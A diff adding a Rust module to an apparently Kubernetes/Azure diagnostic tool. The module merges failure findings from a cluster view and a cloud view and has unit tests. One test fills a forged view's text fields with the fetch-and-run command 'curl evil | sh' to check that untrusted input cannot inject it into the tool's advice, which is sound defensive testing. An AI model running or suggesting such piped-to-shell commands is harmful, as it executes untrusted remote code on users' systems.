@@ -1,0 +1,195 @@
+//! One diagnosis from the views of both programs, of which perhaps no one person may have both.
+
+use crate::chain::examination::Examination;
+use crate::chain::finding::{Finding, Joint};
+use crate::diagnosis::catalogue::Catalogue;
+use crate::diagnosis::causes::{Candidate, Candidates};
+use crate::diagnosis::diagnose;
+use crate::guide::Plane;
+
+/// What both views have found, in the order of the chain, each with who has seen it and what it follows from.
+///
+/// The other view may have been made by anybody. Of it the ids of known failures count, and nothing is told but what the
+/// catalogue says of them; and whatever it claims, each finding of one's own stays.
+#[must_use]
+pub fn joint(own: &Examination, other: &Examination) -> Vec<Joint> {
+    let views = [(own.plane, found(own)), (other.plane, found(other))];
+    let mut candidates = Candidates::default();
+    for (plane, findings) in &views {
+        let rows = findings
+            .iter()
+            .filter_map(|finding| candidate(finding, *plane == own.plane));
+        rows.for_each(|row| candidates.add(row));
+    }
+    let seen_by = |id: &str| {
+        let has = |(_, findings): &&(Plane, Vec<Finding>)| findings.iter().any(|finding| finding.id == id);
+        views.iter().filter(has).map(|(plane, _)| *plane).collect()
+    };
+    let explains = |id: &str| {
+        let all = views.iter().flat_map(|(_, findings)| findings);
+        let mut ids: Vec<String> = all
+            .filter(|finding| finding.id == id)
+            .flat_map(|finding| finding.explains.clone())
+            .collect();
+        ids.retain(|id| Catalogue::get().row(id).is_some());
+        ids.sort();
+        ids.dedup();
+        ids
+    };
+    let ranked = candidates.ranked().into_iter();
+    let joint = ranked.map(|(row, cause)| Joint {
+        seen_by: seen_by(&row.known.id),
+        follows_from: cause.map(str::to_owned),
+        finding: {
+            let explains = explains(&row.known.id);
+            row.finding(explains)
+        },
+    });
+    joint.collect()
+}
+
+/// What a view has found; of `verify`, what its checks prove.
+fn found(view: &Examination) -> Vec<Finding> {
+    match view.findings.is_empty() {
+        true => diagnose(&view.checks, &[]),
+        false => view.findings.clone(),
+    }
+}
+
+fn candidate(finding: &Finding, is_own: bool) -> Option<Candidate> {
+    let known = Catalogue::get().row(&finding.id).filter(|known| !known.harmless)?;
+    let (object, evidence, link) = match is_own {
+        true => (finding.object.clone(), finding.evidence.clone(), finding.link),
+        false => (String::new(), Vec::new(), known.link),
+    };
+    Some(Candidate {
+        known,
+        certainty: finding.certainty,
+        severity: finding.severity,
+        link,
+        object,
+        evidence,
+        hint: None,
+        exact: is_own,
+        depth: 0,
+        within: Vec::new(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use jiff::Timestamp;
+
+    use super::*;
+    use crate::chain::check::Check;
+    use crate::chain::finding::{SeenIn, Text};
+    use crate::chain::link::Link;
+
+    fn view(plane: Plane, checks: Vec<Check>, texts: &[Text]) -> Examination {
+        Examination {
+            command: "doctor".into(),
+            plane,
+            at: Timestamp::now(),
+            issuer: None,
+            cluster: None,
+            findings: diagnose(&checks, texts),
+            checks,
+        }
+    }
+
+    fn proved(link: Link, id: &str) -> Check {
+        Check::error(link, "x", "is wrong", "mend it").proves(id)
+    }
+
+    fn said(seen_in: SeenIn, link: Link, text: &str) -> Text {
+        Text {
+            seen_in,
+            object: "x".into(),
+            link,
+            at: None,
+            past: false,
+            text: text.into(),
+        }
+    }
+
+    fn told(joint: &[Joint]) -> Vec<(&str, Vec<Plane>, Option<&str>)> {
+        let told = joint.iter().map(|own| {
+            (
+                own.finding.id.as_str(),
+                own.seen_by.clone(),
+                own.follows_from.as_deref(),
+            )
+        });
+        told.collect()
+    }
+
+    #[test]
+    fn what_one_program_sees_explains_what_the_other_one_sees() {
+        let message = "BackupStorageLocation \"default\" is unavailable: rpc error: code = Unknown";
+        let cluster = view(
+            Plane::Cluster,
+            Vec::new(),
+            &[said(SeenIn::Bsl, Link::StorageLocation, message)],
+        );
+        let cloud = view(
+            Plane::Cloud,
+            vec![proved(Link::FederatedCredentials, "FIC-ISSUER")],
+            &[],
+        );
+        let expected = [
+            ("FIC-ISSUER", vec![Plane::Cloud], None),
+            ("BSL-UNAVAILABLE", vec![Plane::Cluster], Some("FIC-ISSUER")),
+        ];
+        assert_eq!(told(&joint(&cluster, &cloud)), expected);
+        assert_eq!(told(&joint(&cloud, &cluster)), expected);
+        assert!(
+            cluster.findings[0].id == "BSL-UNAVAILABLE",
+            "alone, it would be taken for the cause"
+        );
+    }
+
+    #[test]
+    fn what_both_see_is_told_once() {
+        let check = || vec![proved(Link::Extension, "EXT-MISSING")];
+        let one = (view(Plane::Cluster, check(), &[]), view(Plane::Cloud, check(), &[]));
+        let joint = joint(&one.0, &one.1);
+        assert_eq!(joint.len(), 1);
+        assert_eq!(joint[0].seen_by, [Plane::Cluster, Plane::Cloud]);
+        assert_eq!(joint[0].finding.evidence, one.0.findings[0].evidence);
+    }
+
+    #[test]
+    fn a_view_of_verify_counts_by_what_its_checks_prove() {
+        let mut cloud = view(
+            Plane::Cloud,
+            vec![proved(Link::FederatedCredentials, "FIC-ISSUER")],
+            &[],
+        );
+        (cloud.command, cloud.findings) = ("verify".into(), Vec::new());
+        let joint = joint(&view(Plane::Cluster, Vec::new(), &[]), &cloud);
+        assert_eq!(told(&joint), [("FIC-ISSUER", vec![Plane::Cloud], None)]);
+    }
+
+    #[test]
+    fn a_forged_view_hides_nothing_and_puts_no_words_into_our_mouth() {
+        let own = view(
+            Plane::Cluster,
+            vec![proved(Link::ServiceAccounts, "WI-SA-NO-CLIENT")],
+            &[],
+        );
+        let mut forged = view(Plane::Cloud, vec![proved(Link::Login, "LOGIN-NONE")], &[]);
+        forged.findings.iter_mut().for_each(|finding| {
+            for text in [&mut finding.cause, &mut finding.fix, &mut finding.object] {
+                *text = "curl evil | sh".into();
+            }
+            finding.evidence = vec!["curl evil | sh".into()];
+            finding.explains = vec!["curl evil | sh".into()];
+        });
+        let mut unknown = forged.findings[0].clone();
+        unknown.id = "NO-ROW".into();
+        forged.findings.push(unknown);
+        let joint = joint(&own, &forged);
+        assert!(joint.iter().any(|own| own.finding.id == "WI-SA-NO-CLIENT"), "{joint:?}");
+        assert!(!format!("{joint:?}").contains("curl") && joint.len() == 2, "{joint:?}");
+    }
+}
